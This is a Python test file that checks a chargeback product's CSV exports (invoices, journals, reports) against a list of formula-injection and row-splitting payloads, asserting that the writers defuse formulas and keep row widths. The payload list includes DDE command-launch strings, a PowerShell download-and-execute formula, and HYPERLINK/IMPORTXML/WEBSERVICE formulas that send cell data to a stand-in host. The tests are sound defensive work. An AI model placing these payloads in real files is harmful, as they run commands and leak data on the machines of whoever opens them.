"""Formula-injection and row-split corpus against every CSV the product writes.

Each payload is written through each format, the file is read back with the ``csv``
module, and two things must hold: no cell starts a formula (after leading whitespace, as
spreadsheets skip it), and every row has the header's width (no field split a row).
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pytest

from chargeback_engine.costdb.connection import open_database
from chargeback_engine.csvwriter import csv_bytes, safe_cell
from chargeback_engine.exporters.ledger_files import write_csv
from chargeback_engine.finance import close_period, export_invoices, export_journal, export_statement, ingest_run
from chargeback_engine.finance.settings import FinanceSettings
from chargeback_engine.insight.render import render
from chargeback_engine.insight.reports import BudgetUse, ExecutiveSummary, Line, TeamReport, TrendPoint
from chargeback_engine.insight.synthetic_series import _write_csv
from chargeback_engine.policy.policy_model import CostCenter
from tests.finance.builders import run_input

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-2-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\u3000=1+1",
    "\u00a0+1",
    "\ufeff=1",
    "\u2003-cmd",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " ＝1",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://e/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "=2+5+cmd|' /C calc'!A0",
    "a\r=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "x\r@SUM(A1)",
    "x\r\r-cmd",
    "\r",
    "\n",
    "\r\n",
    "a,=1+1",
    'a","=1+1',
    '"=1+1"',
    '",=1+1,"',
    "'=1+1",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "=1\r",
    "\r\n\r\n=1",
    "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0",
    "@@@=1",
    "=-1",
    "-=1",
    "a;=1+1",
    "=\u0000",
    "%0A=1+1",
    "=A1\u2028=B1",
    "\u2028=1",
    "\v=1",
    "\f=1",
]

FORMULA = re.compile(r"^[\s\x00\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"^-?[0-9][0-9,]*(\.[0-9]+)?%?$")


def assert_safe(text: str, width: int | None = None) -> list[list[str]]:
    """Every row as wide as the first, no cell that a spreadsheet would evaluate."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    width = width or len(rows[0])
    assert all(len(r) == width for r in rows), [r for r in rows if len(r) != width][:3]
    risky = [c for r in rows for c in r if FORMULA.match(c) and not NUMBER.match(c)]
    assert not risky, risky[:5]
    return rows


def test_there_are_at_least_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_python_writer_quotes_line_breaks_and_defuses_formulas(payload: str) -> None:
    rows = assert_safe(csv_bytes(("a", "b", "c"), [(payload, "-12.50", payload)]).decode())
    assert rows[1][1] == "-12.50"  # amounts stay numbers
    assert rows[1][0] in (payload, "'" + payload)  # nothing is lost, at most a quote is added


def test_the_arrow_writer_quotes_line_breaks_and_defuses_formulas(tmp_path: Path) -> None:
    table = pa.table(
        {
            "text": PAYLOADS,
            "coded": pa.array(PAYLOADS).dictionary_encode(),
            "amount": pa.array([Decimal("-1.5")] * len(PAYLOADS), pa.decimal128(38, 10)),
        }
    )
    rows = assert_safe(write_csv(table, tmp_path / "allocations.csv").read_bytes().decode())
    assert [r[0] for r in rows[1:]] == [safe_cell(p) for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == [safe_cell(p) for p in PAYLOADS]


def test_finance_invoices_statement_and_journals(tmp_path: Path) -> None:
    centers = [CostCenter(p, p, mode="chargeback", gl_account="6420", entity="ACME-US") for p in PAYLOADS]
    rows = [(p, p, f"{i + 1}.25", "direct", "tag") for i, p in enumerate(PAYLOADS)]
    books = open_database(f"sqlite:///{tmp_path / 'books.db'}")
    settings = FinanceSettings(payer_entity="ACME-US")
    ingest_run(books, run_input("2026-01", rows, cost_centers=centers))
    close_period(books, "2026-01", settings)
    written = {
        "invoices": export_invoices(books, "2026-01", tmp_path / "invoices").parent,
        "statement": export_statement(books, "2026-01", str(tmp_path / "statement"), settings).parent,
        **{
            erp: export_journal(books, "2026-01", erp, tmp_path / erp, settings).parent
            for erp in ("sap", "netsuite", "oracle")
        },
    }
    books.dispose()
    for kind, directory in written.items():
        files = sorted(directory.glob("*.csv"))
        assert files, kind
        cells = [c for f in files for r in assert_safe(f.read_bytes().decode()) for c in r]
        assert len(cells) > len(PAYLOADS), kind


def test_insight_report_csvs() -> None:
    line = lambda name: Line.of(name, Decimal("-10.5"), Decimal("3"))  # noqa: E731
    team = TeamReport(
        "=cmd|' /C calc'!A0",
        "2026-01",
        "USD",
        line("total"),
        Decimal(1),
        Decimal(2),
        tuple(line(p) for p in PAYLOADS),
        BudgetUse(Decimal(5), Decimal(6), Decimal("-1.5")),
        (TrendPoint("2026-01", Decimal(1)),),
    )
    summary = ExecutiveSummary(
        "2026-01",
        "USD",
        line("total"),
        tuple(line(p) for p in PAYLOADS),
        tuple(line(p) for p in PAYLOADS),
        tuple(line(p) for p in PAYLOADS),
        Decimal(0),
        None,
    )
    for report in (team, summary):
        text = render(report, "csv")
        rows = assert_safe(text)
        assert sum(r[1].lstrip("'") in PAYLOADS for r in rows) >= len(PAYLOADS)


def test_the_insight_sample_writer(tmp_path: Path) -> None:
    _write_csv(tmp_path / "m.csv", ("cost_center", "amount"), [(p, "-1") for p in PAYLOADS])
    assert_safe((tmp_path / "m.csv").read_bytes().decode())
